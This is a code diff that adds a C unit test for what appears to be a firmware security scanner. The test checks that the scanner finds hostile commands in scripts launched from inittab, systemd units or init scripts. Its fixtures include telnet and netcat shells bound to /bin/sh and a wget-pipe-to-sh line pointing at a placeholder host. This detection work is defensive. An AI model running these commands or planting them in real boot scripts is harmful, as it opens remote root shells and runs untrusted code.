@@ -272,6 +272,74 @@ static void test_rows(void **state) {
   assert_int_equal(bad, 0);
 }
 
+/*
+ * Scripts without a shebang found because boot code runs them: a file
+ * that inittab, a unit or an init script names (any order of analysis),
+ * and the same file when nothing names it.
+ */
+static const struct {
+  const char *what;
+  const char *from, *from_content; /* the referencing file */
+  const char *path, *content;      /* the script, no leading slash */
+  const char *want;                /* "rule@fspath:line,..." */
+} referenced[] = {
+    {"inittab runs it", "etc/inittab", "::sysinit:/opt/start\n", "opt/start",
+     "echo hi\ntelnetd -l /bin/sh\n", SH "@/opt/start:2"},
+    {"inittab runs it through sh", "etc/inittab",
+     "::once:/bin/sh -x /opt/start.txt\n", "opt/start.txt",
+     "echo hi\nwget -O - http://x.example/a | sh\n", RC "@/opt/start.txt:2"},
+    {"a unit runs it", "etc/systemd/system/d.service",
+     "[Unit]\nDescription=d\n[Service]\nExecStart=-/usr/libexec/dbg --now\n",
+     "usr/libexec/dbg", "echo hi\nnc -l -p 23 -e /bin/sh\n",
+     SH "@/usr/libexec/dbg:2"},
+    {"an init script runs it", "etc/init.d/S99x",
+     "#!/bin/sh\n/opt/x.cfg start\n", "opt/x.cfg",
+     "echo hi\ntelnetd -l /bin/sh\n", SH "@/opt/x.cfg:2"},
+    {"nothing runs it", "etc/inittab", "::sysinit:/opt/other\n", "opt/start",
+     "echo hi\ntelnetd -l /bin/sh\n", ""},
+    {"a relative path is not followed", "etc/inittab", "::sysinit:opt/start\n",
+     "opt/start", "echo hi\ntelnetd -l /bin/sh\n", ""},
+    {"documentation is not kept", "etc/inittab",
+     "::sysinit:/usr/share/doc/x/start\n", "usr/share/doc/x/start",
+     "echo hi\ntelnetd -l /bin/sh\n", ""},
+    {"a shebang script is analysed once", "etc/inittab",
+     "::sysinit:/opt/start\n", "opt/start", "#!/bin/sh\ntelnetd -l /bin/sh\n",
+     SH "@/opt/start:2"},
+    {"the reference's own finding too", "etc/inittab",
+     "::sysinit:/opt/s\nttyS0::respawn:/bin/sh\n", "opt/s", "echo\ntftpd\n",
+     DBG "@/etc/inittab:2," DBG "@/opt/s:2"},
+};
+
+static void test_referenced(void **state) {
+  int bad = 0;
+  for (size_t r = 0; r < sizeof referenced / sizeof *referenced; r++) {
+    char root[] = "/tmp/fwvet-svc-XXXXXX", got[1024];
+    assert_non_null(mkdtemp(root));
+    write_file(root, referenced[r].from, referenced[r].from_content,
+               strlen(referenced[r].from_content));
+    write_file(root, referenced[r].path, referenced[r].content,
+               strlen(referenced[r].content));
+    fwvet_scan *scan = NULL;
+    assert_int_equal(fwvet_scan_run(root, NULL, &scan), FWVET_OK);
+    size_t o = 0;
+    got[0] = 0;
+    for (size_t i = 0; i < fwvet_scan_finding_count(scan); i++) {
+      const fwvet_finding *fd = fwvet_scan_finding(scan, i);
+      if (mine(fd->rule) && o < sizeof got)
+        o += (size_t)snprintf(got + o, sizeof got - o, "%s%s@%s:%u",
+                              o ? "," : "", fd->rule, fd->fspath, fd->line);
+    }
+    fwvet_scan_destroy(scan);
+    if (strcmp(got, referenced[r].want) != 0) {
+      print_error("row %zu (%s): got '%s', want '%s'\n", r,
+                  referenced[r].what, got, referenced[r].want);
+      bad++;
+    }
+    rm_tree(root);
+  }
+  assert_int_equal(bad, 0);
+}
+
 /* The evidence is the command line with white space collapsed, so the
  * same line re-indented in the next release keeps its fingerprint. */
 static void test_fingerprint(void **state) {
@@ -426,7 +494,7 @@ int main(void) {
   const struct CMUnitTest tests[] = {
       cmocka_unit_test(test_rows),         cmocka_unit_test(test_fingerprint),
       cmocka_unit_test(test_debian_clean), cmocka_unit_test(test_hostile),
-      cmocka_unit_test(test_binary),
+      cmocka_unit_test(test_binary),       cmocka_unit_test(test_referenced),
   };
   return cmocka_run_group_tests(tests, NULL, NULL);
 }
